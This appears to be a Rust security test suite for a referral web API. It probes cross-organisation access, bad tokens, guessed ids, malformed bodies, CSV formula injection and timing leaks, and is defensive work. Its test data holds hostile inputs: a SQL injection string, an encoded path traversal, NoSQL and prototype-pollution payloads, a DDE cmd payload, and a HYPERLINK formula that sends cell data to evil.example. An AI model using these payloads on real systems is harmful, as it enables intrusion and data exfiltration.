//! The interface attacked from outside: every route as every organisation's token, as none, ended, too old; guessed ids;
//! bodies that are too large, of the wrong kind, or no JSON.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    clippy::disallowed_methods,
    clippy::wildcard_enum_match_arm,
    reason = "a test stops where it is wrong"
)]

use std::time::Instant;

use accounts_site::commands;
use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use serde_json::{Value, json};

use crate::api::{Between, Interface, between};
use crate::person::program;
use crate::world::World;

/// Every route with an ask of others in it, as somebody might try it.
fn tries(of: &Between) -> Vec<(&'static str, String, Option<Value>)> {
    let mut tries = vec![
        ("GET", of.ask.clone(), None),
        ("GET", format!("{}?only=envelope", of.ask), None),
        ("POST", format!("{}/events", of.ask), Some(json!({}))),
        ("POST", format!("{}/events", of.ask), Some(json!({ "type": "accepted", "version": 1 }))),
        ("POST", format!("{}/events", of.ask), Some(json!({ "type": "accepted", "version": 99 }))),
        (
            "POST",
            format!("{}/events", of.ask),
            Some(json!({ "type": "void", "version": 1, "reason": "sent-twice" })),
        ),
    ];
    for event in ["read", "withdrawn", "fitted", "acknowledged", "redirected", "nonsense"] {
        tries.push(("POST", format!("{}/events", of.ask), Some(json!({ "type": event, "version": 1 }))));
    }
    tries
}

async fn attempt(
    interface: &Interface,
    token: Option<&str>,
    of: &(&str, String, Option<Value>),
) -> crate::api::Heard {
    let (method, path, body) = of;
    let mut request = Request::builder().method(*method).uri(path);
    if let Some(token) = token {
        request = request.header(header::AUTHORIZATION, format!("Bearer {token}"));
    }
    if body.is_some() {
        request = request.header(header::CONTENT_TYPE, "application/json");
    }
    let body = body.as_ref().map_or_else(Body::empty, |body| Body::from(body.to_string()));
    interface.call(request.body(body).unwrap()).await
}

/// The same tries on an ask that nobody has.
fn nowhere(of: &(&'static str, String, Option<Value>), ask: &str) -> (&'static str, String, Option<Value>) {
    (of.0, of.1.replace(ask, "/api/asks/00000000000000000000000000"), of.2.clone())
}

#[tokio::test]
async fn to_every_other_organisation_an_ask_of_others_is_word_for_word_one_that_is_not_there() {
    let world = World::new();
    let interface = Interface::of(&world);
    let of = between(&world, &interface).await;
    let organisations = &world.county.place.organisations;
    let mut kinds = std::collections::BTreeMap::new();
    for org in organisations.all().filter(|org| org.code != of.sender && org.code != of.host) {
        kinds.entry(org.kind.clone()).or_insert_with(Vec::new).push(org.code);
    }
    assert!(kinds.len() >= 6, "{:?}", kinds.keys());
    let (mut tried, mut refused) = (0, 0);
    for (kind, codes) in &kinds {
        // Three of each kind: the first, one in the middle, the last.
        let chosen = [codes.first(), codes.get(codes.len() / 2), codes.last()];
        for org in chosen.into_iter().flatten() {
            let token = interface.token(&world, *org).await.bearer;
            for of_try in tries(&of) {
                let real = attempt(&interface, Some(&token), &of_try).await;
                let none = attempt(&interface, Some(&token), &nowhere(&of_try, &of.ask)).await;
                assert_eq!((real.status, &real.text), (none.status, &none.text), "{kind} {org} {of_try:?}");
                assert_eq!(real.status, StatusCode::NOT_FOUND, "{kind} {org} {of_try:?}: {}", real.text);
                assert!(!real.text.contains("Fairweather"));
                tried += 1;
                refused += usize::from(real.status == StatusCode::NOT_FOUND);
            }
            let list = interface.get(&token, "/api/asks").await;
            assert!(!list.text.contains(of.ask.rsplit('/').next().unwrap()), "{kind} {org}");
        }
    }
    println!("attacks: third organisations: {tried} tried, {refused} answered as a wrong address");
}

#[tokio::test]
async fn nobody_without_a_token_that_stands_hears_anything() {
    let world = World::new();
    let interface = Interface::of(&world);
    let of = between(&world, &interface).await;
    let ended = interface.token(&world, of.sender).await;
    let (journal, program) = (world.journal.clone(), program(&world));
    let id = ended.id;
    std::thread::spawn(move || commands::end_token(&journal, &program, id).unwrap()).join().unwrap();
    let strangers = [
        None,
        Some(ended.bearer.clone()),
        Some(String::new()),
        Some("x".repeat(4096)),
        Some(of.from.to_uppercase()),
        Some(format!("{}x", of.from)),
        Some(of.from[..of.from.len() - 1].to_owned()),
        Some("as-0".to_owned()),
        Some("' or 1=1 --".to_owned()),
    ];
    let mut all = tries(&of);
    all.extend([
        ("GET", "/api/asks".to_owned(), None),
        ("GET", "/api/hosts?method=implant".to_owned(), None),
        ("GET", "/api/seats".to_owned(), None),
        ("POST", "/api/asks".to_owned(), Some(of.body.clone())),
        ("GET", "/api/nothing".to_owned(), None),
        ("DELETE", of.ask.clone(), None),
        ("GET", "/api/asks/../openapi.json/x".to_owned(), None),
    ]);
    let mut tried = 0;
    for stranger in &strangers {
        for of_try in &all {
            let heard = attempt(&interface, stranger.as_deref(), of_try).await;
            assert_eq!(heard.status, StatusCode::UNAUTHORIZED, "{stranger:?} {of_try:?}: {}", heard.text);
            assert_eq!(heard.headers[header::WWW_AUTHENTICATE], "Bearer");
            tried += 1;
        }
    }
    // Every role's cookie is worth nothing here: nobody's browser can be made to call.
    let mut cookies = 0;
    let mut roles = std::collections::BTreeSet::new();
    for (nth, of_place) in world.county.place.people.iter().enumerate() {
        if roles.insert(of_place.seat.role.clone()) {
            for of_try in &all {
                let request = Request::builder().method(of_try.0).uri(&of_try.1);
                let request = request.header(header::COOKIE, format!("roundtable=as-{nth}"));
                let heard = interface.call(request.body(Body::empty()).unwrap()).await;
                assert_eq!(heard.status, StatusCode::UNAUTHORIZED, "{} {of_try:?}", of_place.seat.role);
                cookies += 1;
            }
        }
    }
    // A year later the token is too old.
    world.clock.set(kernel::Clock::now(world.clock.as_ref()).plus_hours(366 * 24));
    assert_eq!(interface.get(&of.from, "/api/asks").await.status, StatusCode::UNAUTHORIZED);
    println!("attacks: strangers: {tried} tried, cookies of {} roles: {cookies} tried, all 401", roles.len());
}

#[tokio::test]
async fn guessed_and_crooked_addresses_are_not_there() {
    let world = World::new();
    let interface = Interface::of(&world);
    let of = between(&world, &interface).await;
    let id = of.ask.rsplit('/').next().unwrap();
    let mut guesses: Vec<String> = ["0", "x", "-1", "%00", "..%2f..%2fetc", "%27%20or%201=1", "null", "🙂"]
        .map(|of| of.replace('🙂', "%F0%9F%99%82"))
        .into();
    guesses.extend([id.to_uppercase(), format!("{id}0"), id[1..].to_owned(), format!("{id}%20")]);
    for nth in 0..id.len() {
        let mut letters: Vec<char> = id.chars().collect();
        letters[nth] = if letters[nth] == '2' { '3' } else { '2' };
        guesses.push(letters.into_iter().collect());
    }
    let wrong = interface.get(&of.from, "/api/asks/00000000000000000000000000").await;
    for guess in &guesses {
        let heard = interface.get(&of.from, &format!("/api/asks/{guess}")).await;
        assert_eq!((heard.status, &heard.text), (StatusCode::NOT_FOUND, &wrong.text), "{guess}");
    }
    println!("attacks: guessed ids: {} tried, all answered as a wrong address", guesses.len());
}

#[tokio::test]
async fn a_body_that_cannot_be_one_is_refused_before_anything_is_done() {
    let world = World::new();
    let interface = Interface::of(&world);
    let of = between(&world, &interface).await;
    let send = |kind: &'static str, body: Vec<u8>| {
        let request = Request::post("/api/asks")
            .header(header::AUTHORIZATION, format!("Bearer {}", of.from))
            .header("Idempotency-Key", "crooked-body");
        let request = if kind.is_empty() { request } else { request.header(header::CONTENT_TYPE, kind) };
        interface.call(request.body(Body::from(body)).unwrap())
    };
    let good = of.body.to_string().into_bytes();
    for kind in [
        "",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json; charset=utf-16",
    ] {
        assert_eq!(send(kind, good.clone()).await.status, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{kind}");
    }
    let deep = format!("{{\"name\":{}{}}}", "[".repeat(20_000), "]".repeat(20_000));
    let long = format!("{{\"name\":\"{}\"}}", "x".repeat(70_000));
    let bodies: Vec<(Vec<u8>, u16)> = vec![
        (long.into_bytes(), 413),
        (vec![b' '; 10_000_000], 413),
        (deep.into_bytes(), 400),
        (b"".to_vec(), 400),
        (b"[]".to_vec(), 400),
        (b"\"text\"".to_vec(), 400),
        (b"{\"name\":".to_vec(), 400),
        (b"{\"name\":\"\xff\"}".to_vec(), 400),
        (b"{} {}".to_vec(), 400),
        (b"{}".to_vec(), 422),
        (br#"{"name":{"$gt":""}}"#.to_vec(), 422),
        (br#"{"__proto__":{"x":1}}"#.to_vec(), 422),
    ];
    let count = bodies.len();
    for (nth, (body, status)) in bodies.into_iter().enumerate() {
        let heard = send("application/json", body).await;
        assert_eq!(heard.status.as_u16(), status, "{nth}: {}", heard.text);
        assert_eq!(heard.headers[header::CONTENT_TYPE], "application/problem+json");
    }
    for key in ["", "short", "with space in it", "ümlaut-key", &"x".repeat(65)] {
        let request = Request::post("/api/asks")
            .header(header::AUTHORIZATION, format!("Bearer {}", of.from))
            .header(header::CONTENT_TYPE, "application/json")
            .header("Idempotency-Key", key);
        let heard = interface.call(request.body(Body::from(good.clone())).unwrap()).await;
        assert_eq!(heard.status, StatusCode::BAD_REQUEST, "{key}: {}", heard.text);
    }
    println!(
        "attacks: crooked bodies: {count} bodies, 5 content types, 5 keys, all refused, nothing written"
    );
    let list = interface.get(&of.from, "/api/asks?side=sent").await;
    assert_eq!(list.body["asks"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn nothing_that_a_program_sends_becomes_a_formula_in_a_file() {
    let world = World::new();
    let interface = Interface::of(&world);
    let of = between(&world, &interface).await;
    let events = format!("{}/events", of.ask);
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1)";
    for (nth, start) in
        ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", formula].iter().enumerate()
    {
        let mut body = of.body.clone();
        for field in ["name", "local_number", "times", "language", "previous_problem"] {
            body[field] = json!(start);
        }
        let key = format!("formula-{nth}");
        let heard = interface.post(&of.from, "/api/asks", Some(&key), &body).await;
        assert!(
            [StatusCode::CREATED, StatusCode::UNPROCESSABLE_ENTITY].contains(&heard.status),
            "{}",
            heard.text
        );
    }
    let question = json!({ "type": "needs-info", "version": 1, "question": formula });
    assert_eq!(interface.post(&of.to, &events, None, &question).await.status, StatusCode::OK);
    let nurse = world.who(of.sender, "clinician");
    let guardian = world.who(of.sender, "guardian");
    let history = format!("{}/history", of.ask.trim_start_matches("/api"));
    let mut cells = 0;
    for (who, path) in [(&nurse, history.as_str()), (&nurse, "/sent.csv"), (&guardian, "/access-log.csv")] {
        let file = world.get(who, path).await;
        assert_eq!(file.status, StatusCode::OK, "{path}");
        for cell in file.body.trim_start_matches('\u{feff}').lines().flat_map(|line| line.split(',')) {
            let cell = cell.trim_matches('"');
            assert!(!cell.starts_with(['=', '+', '@', '\t']), "{path}: {cell}");
            cells += 1;
        }
    }
    println!("attacks: formulas: 6 in 5 fields and a question, {cells} cells of 3 files, none runs");
}

#[tokio::test]
async fn hers_takes_as_long_as_none() {
    let world = World::new();
    let interface = Interface::of(&world);
    let of = between(&world, &interface).await;
    let third = interface.token(&world, world.sender(1)).await.bearer;
    let mut times = [Vec::new(), Vec::new()];
    for _ in 0..200 {
        for (place, path) in [of.ask.as_str(), "/api/asks/00000000000000000000000000"].into_iter().enumerate()
        {
            let begun = Instant::now();
            assert_eq!(interface.get(&third, path).await.status, StatusCode::NOT_FOUND);
            times[place].push(begun.elapsed().as_micros());
        }
    }
    let median = |times: &mut Vec<u128>| {
        times.sort_unstable();
        times[times.len() / 2]
    };
    let (hers, none) = (median(&mut times[0]), median(&mut times[1]));
    println!("attacks: timing: somebody else's ask {hers} µs, none {none} µs (medians of 200)");
    // One road: a row that is found and refused, or none. Told apart by a factor they would tell of each other.
    assert!(hers < none * 3 + 300 && none < hers * 3 + 300, "{hers} µs and {none} µs");
}
